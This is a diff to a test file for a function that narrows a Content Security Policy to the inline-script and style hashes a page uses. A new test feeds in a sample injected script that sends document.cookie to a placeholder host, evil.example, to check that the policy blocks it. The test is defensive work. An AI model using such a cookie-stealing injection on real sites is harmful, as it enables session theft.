@@ -17,13 +17,26 @@ describe('page policy', () => {
     });
   });
 
-  it("replaces the site-wide hash lists with the page's and keeps every other source and directive", () => {
-    expect(narrowPolicy(SITE_WIDE, PAGE)).toBe(
+  it("keeps of the build's hashes those the page uses, and every other source and directive", () => {
+    const built = `default-src 'self';object-src 'none'; script-src 'self' 'sha256-AAAA' ${hash('var a = 1;')} ${hash("import('/y.js')")}; style-src 'self' ${hash('p{color:red}')} ${hash('.b{fill:red}')} 'sha256-CCCC'; style-src-attr 'unsafe-inline';`;
+    expect(narrowPolicy(built, PAGE)).toBe(
       `default-src 'self';object-src 'none';script-src 'self' ${hash('var a = 1;')} ${hash("import('/y.js')")};style-src 'self' ${hash('p{color:red}')} ${hash('.b{fill:red}')}; style-src-attr 'unsafe-inline';`,
     );
   });
 
+  it('never allows an inline script or style the build did not make (an injection is blocked, not hashed)', () => {
+    const injected = `${PAGE}<script>fetch('//evil.example?c='+document.cookie)</script><style>body{display:none}</style>`;
+    const policy = narrowPolicy(`script-src 'self' ${hash('var a = 1;')}; style-src 'self' 'sha256-CCCC'`, injected);
+    expect(policy).toBe(`script-src 'self' ${hash('var a = 1;')};style-src 'self'`);
+    expect(policy).not.toContain(hash("fetch('//evil.example?c='+document.cookie)"));
+    expect(policy).not.toContain(hash('body{display:none}'));
+    // Nor a script of this page the build never listed.
+    expect(narrowPolicy(SITE_WIDE, PAGE)).not.toContain(hash('var a = 1;'));
+  });
+
   it('allows no inline code on a page that has none', () => {
-    expect(narrowPolicy(SITE_WIDE, '<p>text</p>')).toBe("default-src 'self';object-src 'none';script-src 'self';style-src 'self'; style-src-attr 'unsafe-inline';");
+    expect(narrowPolicy(SITE_WIDE, '<p>text</p>')).toBe(
+      "default-src 'self';object-src 'none';script-src 'self';style-src 'self'; style-src-attr 'unsafe-inline';",
+    );
   });
 });
